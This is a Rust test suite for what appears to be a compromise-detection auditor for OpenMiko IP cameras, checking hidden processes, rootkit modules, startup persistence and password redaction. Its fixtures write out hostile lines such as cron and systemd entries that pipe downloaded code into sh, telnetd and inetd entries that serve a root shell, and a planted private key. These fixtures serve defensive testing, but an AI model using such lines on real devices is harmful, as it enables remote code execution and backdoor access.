//! What hides: from the list of processes, from the table of mounts, from those who may not look.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::time::{Duration, Instant};

use super::running::{Camera, MOUNTS};
use super::*;

#[test]
fn processes_that_nobody_sees_are_no_pass() {
    if without_root() {
        return;
    }
    let ids = ["trace.deleted", "trace.name", "network.owner"];
    let camera = Camera::new("openmiko");
    let plain = camera.report();
    for id in ids {
        assert_eq!(verdict(&plain, id), "pass", "{}", rule(&plain, id));
    }
    let mounts = |options: &str| {
        let text = format!("{MOUNTS}proc /proc proc rw{options} 0 0\n");
        camera.write("proc/mounts", text);
    };
    for (options, status, expected) in [
        (",hidepid=0", "", "pass"),
        (",hidepid=2", "", "unknown"),
        (",hidepid=invisible", "CapEff:\t0000000000000000\n", "unknown"),
        // Root with all its capabilities sees everything.
        (",gid=5,hidepid=2", "CapEff:\t000001ffffffffff\n", "pass"),
    ] {
        mounts(options);
        camera.write("proc/self/status", status);
        let report = camera.report();
        for id in ids {
            assert_eq!(verdict(&report, id), expected, "{options}: {}", rule(&report, id));
        }
    }
    mounts("");
    fs::rename(camera.path("proc/1"), camera.path("proc/2")).unwrap();
    let report = camera.report();
    for id in ids {
        assert_eq!(verdict(&report, id), "unknown", "{}", rule(&report, id));
        assert!(
            evidence(&report, id).contains("process 1"),
            "{}",
            rule(&report, id)
        );
    }
}

#[test]
fn a_process_whose_first_thread_has_ended_is_one() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    let exe = "/usr/bin/evil (deleted)";
    camera.process(60, "/bin/busybox", b"x", b"", &[]);
    fs::remove_file(camera.path("proc/60/exe")).unwrap();
    camera.write("proc/60/stat", "60 (x) Z 1 1 1 0 -1 4194304 0 0\n");
    camera.write("proc/60/task/60/stat", "60 (x) Z 1 1 1 0 -1 4194304 0 0\n");
    assert_eq!(verdict(&camera.report(), "trace.deleted"), "pass", "it has ended");
    camera.write("proc/60/task/61/stat", "61 (x) S 1 1 1 0 -1 4194304 0 0\n");
    camera.write("proc/60/task/61/comm", "dvqbi2h4vtfb3lk\n");
    fs::create_dir_all(camera.path("proc/60/task/61/fd")).unwrap();
    symlink(exe, camera.path("proc/60/task/61/exe")).unwrap();
    symlink("socket:[77]", camera.path("proc/60/task/61/fd/3")).unwrap();
    camera.listen(2222, 77);
    let report = camera.report();
    for id in ["trace.deleted", "trace.name"] {
        assert_eq!(verdict(&report, id), "fail", "{}", rule(&report, id));
    }
    assert_eq!(verdict(&report, "network.owner"), "pass");
}

#[test]
fn a_table_of_mounts_that_is_cut_or_none_is_no_pass() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    let root = "/dev/mtdblock3 / jffs2 rw 0 0\n";
    let long = format!("{root}{}", "tmpfs /x tmpfs rw 0 0\n".repeat(4000));
    for (text, why) in [
        ("", "shows nothing mounted at /"),
        ("garbage\n", "makes no sense"),
        ("a b c d\n", "makes no sense"),
        ("tmpfs /tmp tmpfs rw 0 0\n", "shows nothing mounted at /"),
        (&long, "longer than what is read"),
    ] {
        camera.write("proc/mounts", text);
        let report = camera.report();
        for id in ["trace.deleted", "trace.name", "system.mount"] {
            assert_eq!(verdict(&report, id), "unknown", "{why}: {}", rule(&report, id));
            assert!(evidence(&report, id).contains(why), "{}", rule(&report, id));
        }
    }
    camera.write("proc/mounts", format!("{root}tmpfs /proc/1 tmpfs rw 0 0\n"));
    let report = camera.report();
    assert_eq!(verdict(&report, "trace.deleted"), "unknown");
    assert_eq!(verdict(&report, "trace.name"), "fail");
}

#[test]
fn what_lies_deep_or_out_of_sight_is_no_pass() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    assert_eq!(verdict(&camera.report(), "trace.file"), "pass");
    camera.write("tmp/a/b/c/d/evil", "\x7fELF");
    let report = camera.report();
    assert_eq!(verdict(&report, "trace.file"), "fail");
    assert!(evidence(&report, "trace.file").contains("/tmp/a/b/c/d/evil"));
    fs::remove_dir_all(camera.path("tmp/a")).unwrap();
    camera.write(&format!("tmp/{}evil", "a/".repeat(20)), "\x7fELF");
    assert_eq!(verdict(&camera.report(), "trace.file"), "unknown");
    fs::remove_dir_all(camera.path("tmp/a")).unwrap();
    camera.write("var/tmp/evil", "\x7fELF");
    fs::set_permissions(camera.path("var"), fs::Permissions::from_mode(0o700)).unwrap();
    let report = camera.report_of_nobody();
    assert_eq!(
        verdict(&report, "trace.file"),
        "unknown",
        "{}",
        rule(&report, "trace.file")
    );
    assert!(evidence(&report, "trace.file").contains("errno 13"));
}

/// The most that a pipe in a file's place may cost.
const MAX_TIME: &str = "20";

#[test]
fn a_pipe_in_a_files_place_holds_nothing_up() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    let root = camera.0.path().to_str().unwrap();
    for (path, id) in [
        ("etc/lenscap/audit.baseline", "network.drift"),
        ("etc/config/lenscap", "network.peer"),
    ] {
        let fifo = camera.path(path);
        fs::create_dir_all(fifo.parent().unwrap()).unwrap();
        let _ = fs::remove_file(&fifo);
        assert!(run("mkfifo", &[fifo.to_str().unwrap()]).status.success());
        let before = Instant::now();
        let args = [
            MAX_TIME,
            "chroot",
            root,
            "/lenscap",
            "audit",
            "--json",
            "--no-probe",
        ];
        let output = run("timeout", &args);
        assert_ne!(code(&output), 124, "{path} held it up");
        assert!(before.elapsed() < Duration::from_secs(20));
        if id == "network.drift" {
            let report = report(&output);
            assert_eq!(verdict(&report, id), "unknown", "{}", rule(&report, id));
            assert!(evidence(&report, id).contains("pipe"));
        }
    }
}

#[test]
fn no_report_holds_the_passwords_of_command_lines() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    let words = b"/usr/bin/streamer\0--password\0geheim";
    camera.process(60, "/bin/busybox", b"streamer", words, &[77]);
    camera.listen(554, 77);
    camera.write(
        "etc/crontabs/root",
        "0 3 * * * curl -u admin:geheim https://192.0.2.1/geheim | sh\n0 4 * * * /bin/x geheim\n",
    );
    camera.write(
        "etc/init.d/S99x",
        "#!/bin/sh\n/tmp/x geheim\nwget --password=geheim http://192.0.2.1/x | sh\ntelnetd -l /bin/sh geheim\n\
         echo root:geheim `which geheim` telnetd | geheim\nfw_printenv debug geheim\n/mnt/mmc/x geheim\n\
         sh -c \"wget http://u:geheim@192.0.2.1/; telnetd -l $(geheim)\"\n",
    );
    camera.write(
        "etc/inetd.conf",
        "telnet stream tcp nowait root telnetd telnetd -l geheim\n",
    );
    camera.write("etc/mdev.conf", "sda 0:0 660 @telnetd geheim\n");
    camera.write("etc/network/interfaces", "up telnetd -l geheim\n");
    camera.write(
        "etc/systemd/system/x.service",
        "[Service]\nExecStart=/tmp/telnetd geheim\n",
    );
    for format in ["text", "json", "html", "xccdf", "cyclonedx"] {
        let output = camera.audit(&["--format", format, "--details", "--no-probe"]);
        let text = String::from_utf8(output.stdout).unwrap();
        assert!(!text.contains("geheim"), "{format}: {text}");
    }
    let report = camera.report();
    let telnet = evidence(&report, "start.telnet");
    for told in ["S99x:4", "`telnetd …`", "/etc/inetd.conf:1", "/etc/mdev.conf:1"] {
        assert!(telnet.contains(told), "{told}: {telnet}");
    }
    assert!(evidence(&report, "start.loader").contains("`fw_printenv …`"));
    let streamer = report["sockets"].as_array().unwrap();
    assert_eq!(streamer[0]["command"], "/usr/bin/streamer");
    assert_eq!(streamer[0]["program"], "/bin/busybox");
    // What is not shown changes all the same.
    fs::create_dir_all(camera.path("etc/lenscap")).unwrap();
    camera.audit(&["--accept"]);
    assert_eq!(verdict(&camera.report(), "start.drift"), "pass");
    camera.write(
        "etc/crontabs/root",
        "0 3 * * * curl -u admin:geheim https://192.0.2.1/geheim | sh\n0 4 * * * /bin/x anders\n",
    );
    let report = camera.report();
    assert_eq!(verdict(&report, "start.drift"), "fail");
    assert!(
        evidence(&report, "start.drift").contains("0 4 * * * /bin/x …"),
        "{}",
        rule(&report, "start.drift")
    );
}

#[test]
fn an_inventory_that_is_cut_is_compared_with_nothing() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    fs::create_dir_all(camera.path("etc/lenscap")).unwrap();
    camera.audit(&["--accept"]);
    assert_eq!(verdict(&camera.report(), "start.drift"), "pass");
    let long = format!("etc/init.d/{}", "x".repeat(220));
    camera.write(&long, "#!/bin/sh\n:\n");
    camera.audit(&["--accept"]);
    assert_eq!(verdict(&camera.report(), "start.drift"), "unknown");
    fs::remove_file(camera.path(&long)).unwrap();
    camera.audit(&["--accept"]);
    assert_eq!(verdict(&camera.report(), "network.drift"), "pass");
    for n in 0..1024u16 {
        camera.listen(1000 + n, 0);
    }
    camera.audit(&["--accept"]);
    assert_eq!(verdict(&camera.report(), "network.drift"), "unknown");
}

#[test]
fn whatever_the_system_starts_is_told() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    fs::create_dir_all(camera.path("etc/lenscap")).unwrap();
    camera.write(
        "proc/mounts",
        "overlayfs:/overlay / overlay rw,lowerdir=/,upperdir=/overlay/upper,workdir=/overlay/work 0 0\n",
    );
    camera.write("rom/etc/inittab", "");
    fs::create_dir_all(camera.path("overlay/upper/etc")).unwrap();
    camera.audit(&["--accept"]);
    assert_eq!(verdict(&camera.report(), "start.drift"), "pass");
    let put = |path: &str, text: &str| {
        camera.write(path, text);
        camera.write(&format!("overlay/upper/{path}"), text);
    };
    for name in ["S97x.log", "S97x.ko", "S97x.so", "S97x.ts"] {
        put(&format!("etc/init.d/{name}"), "#!/bin/sh\ntelnetd -l /bin/sh\n");
    }
    put("etc/init.d/S98elf", "\x7fELF and what follows");
    camera.write("usr/bin/evil", "\x7fELF");
    for link in ["etc/init.d/S99l", "overlay/upper/etc/init.d/S99l"] {
        symlink("/usr/bin/evil", camera.path(link)).unwrap();
    }
    // It leads to what is told already.
    fs::create_dir_all(camera.path("etc/rc.d")).unwrap();
    symlink("../init.d/S97x.log", camera.path("etc/rc.d/S97x")).unwrap();
    put(
        "etc/cron.d/x",
        "* * * * * root wget -qO- http://192.0.2.1/x | sh\n",
    );
    put(
        "var/spool/cron/root",
        "* * * * * wget -qO- http://192.0.2.1/x | sh\n",
    );
    put("etc/mdev.conf", "sd[a-z] 0:0 660 @/tmp/x\n");
    put("etc/inetd.conf", "2323 stream tcp nowait root /bin/sh sh\n");
    let report = camera.report();
    let told = |id: &str| {
        assert_eq!(verdict(&report, id), "fail", "{}", rule(&report, id));
        evidence(&report, id)
    };
    for path in ["S97x.log", "S97x.ko", "S97x.so", "S97x.ts"] {
        assert!(
            told("start.telnet").contains(path),
            "{path}: {}",
            told("start.telnet")
        );
    }
    for path in ["S97x.log", "S97x.ko", "S97x.so", "S97x.ts", "S98elf", "S99l"] {
        assert!(
            told("start.added").contains(path),
            "{path}: {}",
            told("start.added")
        );
        assert!(
            told("start.drift").contains(path),
            "{path}: {}",
            told("start.drift")
        );
    }
    for path in [
        "/etc/cron.d/x",
        "/var/spool/cron/root",
        "/etc/mdev.conf",
        "/etc/inetd.conf",
    ] {
        for id in ["start.drift", "start.added"] {
            assert!(told(id).contains(path), "{path}: {}", told(id));
        }
    }
    for path in ["/etc/cron.d/x:1", "/var/spool/cron/root:1"] {
        assert!(told("start.download").contains(path), "{path}");
    }
    assert!(!told("start.added").contains("rc.d"));
    // Another program in its place is told, too.
    camera.audit(&["--accept"]);
    assert_eq!(verdict(&camera.report(), "start.drift"), "pass");
    camera.write("usr/bin/evil", "\x7fELF other");
    assert_eq!(verdict(&camera.report(), "start.drift"), "fail");
}

#[test]
fn units_of_systemd_are_among_what_starts() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    fs::create_dir_all(camera.path("etc/lenscap")).unwrap();
    camera.write(
        "lib/systemd/system/own.service",
        "[Service]\nExecStart=/usr/bin/own\n",
    );
    camera.audit(&["--accept"]);
    let report = camera.report();
    assert_eq!(
        verdict(&report, "start.drift"),
        "pass",
        "{}",
        rule(&report, "start.drift")
    );
    // One that was there is started now; one is new; one is told more by a file beside it.
    let wants = camera.path("etc/systemd/system/multi-user.target.wants");
    fs::create_dir_all(&wants).unwrap();
    symlink("/lib/systemd/system/own.service", wants.join("own.service")).unwrap();
    symlink("/dev/null", camera.path("etc/systemd/system/firewall.service")).unwrap();
    camera.write(
        "etc/systemd/system/evil.service",
        "[Service]\nExecStartPre=-/bin/sh -c 'wget -qO- http://192.0.2.1/x | sh'\nExecStart=+/tmp/.x/run\n",
    );
    camera.write(
        "etc/systemd/system/own.service.d/more.conf",
        "[Service]\n# ExecStart=/tmp/not\nEnvironment=X=/tmp/not\n",
    );
    let report = camera.report();
    let told = |id: &str| {
        assert_eq!(verdict(&report, id), "fail", "{}", rule(&report, id));
        evidence(&report, id)
    };
    for path in [
        "/etc/systemd/system/multi-user.target.wants/own.service",
        "/etc/systemd/system/firewall.service",
        "/etc/systemd/system/evil.service",
        "/etc/systemd/system/own.service.d/more.conf",
    ] {
        let drift = told("start.drift");
        assert!(drift.contains(&format!("start {path} ")), "{path}: {drift}");
    }
    let download = told("start.download");
    for what in [
        "/etc/systemd/system/evil.service:2",
        "fetches and runs",
        "runs `/tmp/.x/run`",
    ] {
        assert!(download.contains(what), "{what}: {download}");
    }
    assert!(!download.contains("/tmp/not"), "{download}");
    // Everybody may write to /dev/null.
    let modes = evidence(&report, "start.writable");
    assert!(!modes.contains("firewall.service"), "{modes}");
    camera.audit(&["--accept"]);
    assert_eq!(verdict(&camera.report(), "start.drift"), "pass");
    // What a link leads to counts, too.
    camera.write(
        "lib/systemd/system/own.service",
        "[Service]\nExecStart=/usr/bin/other\n",
    );
    let report = camera.report();
    assert!(evidence(&report, "start.drift").contains("wants/own.service"));
}

#[test]
fn modules_that_lie_where_firmwares_keep_none_are_told() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    let verdict_of = || {
        let report = camera.report();
        (
            verdict(&report, "trace.module").to_owned(),
            evidence(&report, "trace.module"),
        )
    };
    camera.write("proc/modules", "own 1 0 - Live 0\n");
    camera.write("lib/modules/6.12.1/own.ko", "x");
    assert_eq!(verdict_of().0, "pass", "{}", verdict_of().1);
    for path in ["etc/.x/kit.ko", "var/lib/kit.ko.xz", "root/own.ko"] {
        camera.write(path, "x");
        let (verdict, why) = verdict_of();
        assert_eq!(verdict, "unknown", "{path}: {why}");
        assert!(why.contains(&format!("/{path}")), "{why}");
        fs::remove_file(camera.path(path)).unwrap();
    }
    camera.write("etc/.x/my-kit.ko", "x");
    camera.write("proc/modules", "own 1 0 - Live 0\nmy_kit 1 0 - Live 0\n");
    let (verdict, why) = verdict_of();
    assert_eq!(verdict, "fail", "{why}");
    assert!(
        why.contains("/etc/.x/my-kit.ko") && why.contains("my_kit is loaded"),
        "{why}"
    );
    // In places that are empty after a restart it is a trace, whatever it is packed with.
    camera.write("run/kit.ko.gz", "x");
    assert_eq!(super::verdict(&camera.report(), "trace.file"), "fail");
}

#[test]
fn keys_among_many_files_of_such_names_are_not_passed_over() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    for n in 0..1100 {
        camera.write(&format!("etc/a/{n}.pem"), "nothing");
    }
    camera.write(
        "etc/a/z/z.pem",
        "-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\n",
    );
    let report = camera.report();
    assert_eq!(
        verdict(&report, "account.key"),
        "unknown",
        "{}",
        rule(&report, "account.key")
    );
}

#[test]
fn every_ssh_server_counts() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    let ssh = |pid: u32, name: &str, words: &str| {
        camera.process(pid, "/bin/busybox", name.as_bytes(), words.as_bytes(), &[]);
    };
    let end = |pid: u32| fs::remove_dir_all(camera.path(&format!("proc/{pid}"))).unwrap();
    ssh(50, "dropbear", "dropbear\0-s\0-p\x0022");
    assert_eq!(verdict(&camera.report(), "account.ssh"), "pass");
    ssh(60, "dropbear", "dropbear\0-p\x002222");
    assert_eq!(verdict(&camera.report(), "account.ssh"), "fail");
    end(60);
    ssh(60, "sshd", "sshd\0-f\0/tmp/x");
    assert_eq!(verdict(&camera.report(), "account.ssh"), "unknown");
    end(50);
    end(60);
    ssh(50, "dropbearmulti", "/usr/sbin/dropbearmulti\0dropbear\0-p\x0022");
    assert_eq!(verdict(&camera.report(), "account.ssh"), "fail");
    end(50);
    ssh(50, "sshd", "sshd");
    camera.write(
        "etc/ssh/sshd_config",
        "PasswordAuthentication no\nMatch User x\n  PasswordAuthentication yes\n",
    );
    assert_eq!(verdict(&camera.report(), "account.ssh"), "fail");
}

#[test]
fn an_empty_log_or_table_is_no_pass() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    camera.write("var/log/messages", "");
    let report = camera.report();
    let log = rule(&report, "trace.log")["evidence"].to_string();
    assert!(log.contains("nothing is in it"), "{log}");
    assert_eq!(verdict(&report, "trace.port"), "pass");
    for text in ["", "nothing\n"] {
        camera.write("proc/net/tcp", text);
        let report = camera.report();
        for id in ["trace.port", "network.exposed"] {
            assert_eq!(verdict(&report, id), "error", "{}", rule(&report, id));
        }
    }
}

#[test]
fn whom_the_camera_calls_is_told_from_whom_calls_it() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    camera.write("etc/config/lenscap", "config agent\n\toption state_dir '/etc/lenscap'\nconfig uplink 'main'\n\toption endpoint 'https://192.0.2.9/onvif/uplink'\n");
    camera.process(50, "/root/evil", b"evil", b"evil", &[77, 78]);
    camera.socket("tcp", "0100007F:C001 00000000:0000 0A", 77);
    camera.socket("tcp", "0200000A:C001 0A7100CB:01BB 01", 78);
    let report = camera.report();
    let told = evidence(&report, "network.peer");
    assert!(told.contains("203.0.113.10 port 443"), "{told}");
    // Whoever came in.
    camera.listen(0xc001, 79);
    let report = camera.report();
    let told = evidence(&report, "network.peer");
    assert!(!told.contains("203.0.113.10"), "{told}");
}

/// On this machine: the kernel marks the file's name alone.
#[test]
fn a_file_named_like_a_deleted_one_hides_nothing() {
    if without_root() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let at = folder.path().display();
    let script = format!(
        "runs() {{ until readlink /proc/$1/exe | grep -q \"$2\"; do :; done; }}
        cd {at} && cp /bin/sleep evil && cp /bin/sleep 'odd (deleted)' || exit 99
        {at}/evil 60 & runs $! evil; rm evil; : >'evil (deleted)'
        '{at}/odd (deleted)' 60 & runs $! odd
        exec {LENSCAP} audit --json --only trace.deleted"
    );
    let report = among_own_processes(&script);
    let told = evidence(&report, "trace.deleted");
    assert!(
        told.contains(&format!("{at}/evil is deleted and runs as evil")),
        "{told}"
    );
    assert!(told.contains(&format!("{at}/odd (deleted) runs as")), "{told}");
}

/// The report that a script ends with, in processes and mounts of its own, which end with it.
pub(super) fn among_own_processes(script: &str) -> Value {
    let words = [
        "--pid",
        "--fork",
        "--kill-child",
        "--mount-proc",
        "sh",
        "-c",
        script,
    ];
    report(&run("unshare", &words))
}

/// On this machine, where the kernel tells a path that leads to another file, or to none.
#[test]
fn a_program_that_a_mount_hides_is_no_pass() {
    if without_root() {
        return;
    }
    let script = format!(
        "runs() {{ until readlink /proc/$1/exe | grep -q \"$2\"; do :; done; }}
        mount -t tmpfs none /mnt && cd /mnt && mkdir a b c && mount -t tmpfs none a || exit 99
        cp /bin/sleep a/lazy && cp /bin/sleep c/covered && cp /bin/sleep plain || exit 99
        /mnt/a/lazy 60 & runs $! lazy; umount -l a
        /mnt/c/covered 60 & runs $! covered; mount -t tmpfs none c && cp /bin/sleep c/covered
        unshare --mount sh -c 'mount -t tmpfs none b && cp /bin/sleep b/apart && exec /mnt/b/apart 60' & runs $! apart
        /mnt/plain 60 & runs $! plain
        exec {LENSCAP} audit --json --only trace.deleted"
    );
    let report = among_own_processes(&script);
    let told = evidence(&report, "trace.deleted");
    for (file, name) in [
        ("/lazy", "lazy"),
        ("/mnt/c/covered", "covered"),
        ("/mnt/b/apart", "apart"),
    ] {
        let evidence = rule(&report, "trace.deleted")["evidence"].as_array().unwrap();
        let text = format!("{file} is not the file that runs as {name}");
        let found = evidence
            .iter()
            .find(|one| one["text"].as_str().unwrap().contains(&text));
        assert_eq!(
            found.unwrap_or_else(|| panic!("{told}"))["verdict"],
            "unknown",
            "{told}"
        );
    }
    assert!(
        told.contains("/mnt/plain runs as plain from memory: /mnt (tmpfs)"),
        "{told}"
    );
}
